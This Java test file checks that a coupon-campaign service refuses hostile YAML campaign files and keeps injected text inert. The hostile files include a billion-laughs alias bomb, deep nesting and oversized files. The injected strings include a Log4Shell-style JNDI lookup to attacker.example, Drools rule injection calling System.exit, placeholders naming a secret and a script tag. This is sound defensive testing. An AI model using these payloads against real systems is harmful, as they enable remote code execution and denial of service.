package io.receiptcoupons.campaign;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.hasItem;

import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.junit.TestProfile;
import io.receiptcoupons.authoring.CampaignValidation;
import io.receiptcoupons.checkout.Checkouts;
import io.restassured.path.json.JsonPath;
import jakarta.inject.Inject;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

/** Hostile campaign files are refused naming file and line, and the live ruleset serves on. */
@QuarkusTest
@TestProfile(HostileProfile.class)
class HostileCampaignFilesTest {

  static final Path DIR = HostileProfile.DIR;
  static final String AT = Checkouts.noon(LocalDate.of(2026, 11, 20));
  private final List<Path> written = new ArrayList<>();

  @Inject CampaignValidation validation;

  @AfterEach
  void removeWrittenFiles() throws Exception {
    for (Path file : written) {
      Files.deleteIfExists(file);
    }
    reload().statusCode(200);
  }

  @Test
  void billionLaughsIsRefusedAtTheFirstAlias() throws Exception {
    StringBuilder text = new StringBuilder("id: laughs\nlol0: &a0 [lol, lol, lol, lol, lol]\n");
    for (int level = 1; level < 10; level++) {
      String alias = "*a" + (level - 1);
      text.append(
          "lol%d: &a%d [%s, %s, %s, %s, %s]\n"
              .formatted(level, level, alias, alias, alias, alias, alias));
    }
    refusedAt(write("laughs.yaml", text.toString()), 3, "YAML aliases (*a0) are not allowed");
  }

  @Test
  void deepNestingIsRefusedAtItsLine() throws Exception {
    String deep = "[".repeat(200) + "]".repeat(200);
    refusedAt(
        write("deep.yaml", "id: deep\nname: x\nsponsor: " + deep + "\n"),
        3,
        "nested deeper than 32");
  }

  @Test
  void anOversizedFileIsRefusedUnread() throws Exception {
    String padding = ("# " + "x".repeat(98) + "\n").repeat(3000);
    Path file = write("huge.yaml", Files.readString(DIR.resolve("beer-snacks.yaml")) + padding);
    refusedAt(file, 1, "over the limit of 262144 (coupons.campaigns.max-file-bytes)");
  }

  @Test
  void moreCampaignsThanTheMaximumAreRefusedAsAWhole() throws Exception {
    String beer = Files.readString(DIR.resolve("beer-snacks.yaml"));
    int max = HostileProfile.MAX_CAMPAIGNS;
    int copies = max + 1 - campaignFiles();
    for (int copy = 0; copy < copies; copy++) {
      write("zz-copy-" + copy + ".yaml", beer.replace("id: beer-snacks", "id: zz-copy-" + copy));
    }
    refusedAt(
        DIR.resolve("zz-copy-" + (copies - 1) + ".yaml"),
        1,
        (max + 1) + " campaign files, over the limit of " + max);
  }

  // Counted as the loader counts them: campaign files, not policies (_*.yaml) nor scenarios.
  private static int campaignFiles() throws java.io.IOException {
    try (var files = Files.list(DIR)) {
      return (int)
          files
              .map(file -> file.getFileName().toString())
              .filter(name -> name.endsWith(".yaml") && !name.startsWith("_"))
              .filter(name -> !name.endsWith(".test.yaml"))
              .count();
    }
  }

  @Test
  void quotesDrlJavaAndPlaceholdersStayInertData() throws Exception {
    Path file = DIR.resolve("inert-text.yaml");
    written.add(Files.copy(Path.of("src/test/resources/hostile-campaigns/inert-text.yaml"), file));

    assertThat(validation.validate(DIR).errors()).isEmpty();
    reload().statusCode(200);
    Map<String, Object> gin =
        Checkouts.item("4901000000999", "alcohol/gin/dry", "o'neil & sons", 1, 1500);
    JsonPath coupon =
        Checkouts.post(Checkouts.body(Checkouts.newTransaction(), null, "S0001", AT, List.of(gin)))
            .then()
            .statusCode(200)
            .extract()
            .jsonPath()
            .setRootPath("coupons.find { it.campaignId == 'inert-text' }");

    assertThat(coupon.getString("title")).isEqualTo("\"; end rule \"pwn\" when then ${when}");
    assertThat(coupon.getList("lines", String.class))
        .containsExactly(
            "${name} ${index} ${COUPONS_SECRET} $1 \\ \\n",
            "System.exit(1); // */ /* */",
            "import java.io.File; eval(true)",
            "rule \"x\" @campaign(0) when then end",
            "' \" ` %s %n {0} \\\" <script>");
    assertThat(current().getString("campaigns.find { it.id == 'inert-text' }.name"))
        .isEqualTo("end\" rule \"pwn\" when eval(true) then System.exit(1); end");
    assertThat(current().getString("campaigns.find { it.id == 'inert-text' }.sponsor"))
        .isEqualTo("${jndi:ldap://attacker.example/a} #{1+1} %{x} ${user.home} \\u0022");
  }

  private void refusedAt(Path file, int line, String message) {
    String before = current().getString("version");
    reload()
        .statusCode(422)
        .contentType("application/problem+json")
        .body("errors.field", hasItem(file + ":" + line + ":"))
        .body("errors.message", hasItem(org.hamcrest.Matchers.containsString(message)));
    assertThat(current().getString("version")).isEqualTo(before);
    assertThat(Checkouts.buyAt(null, "S0001", AT, List.of(beer()))).contains("beer-snacks");
  }

  private Path write(String name, String text) throws Exception {
    Path file = Files.writeString(DIR.resolve(name), text);
    written.add(file);
    return file;
  }

  private static Map<String, Object> beer() {
    return Checkouts.item("4901777000011", "alcohol/beer/lager", "kirin", 6, 250);
  }

  static JsonPath current() {
    return given().get("/v1/rulesets/current").then().statusCode(200).extract().jsonPath();
  }

  static io.restassured.response.ValidatableResponse reload() {
    return given().post("/v1/rulesets/reload").then();
  }
}
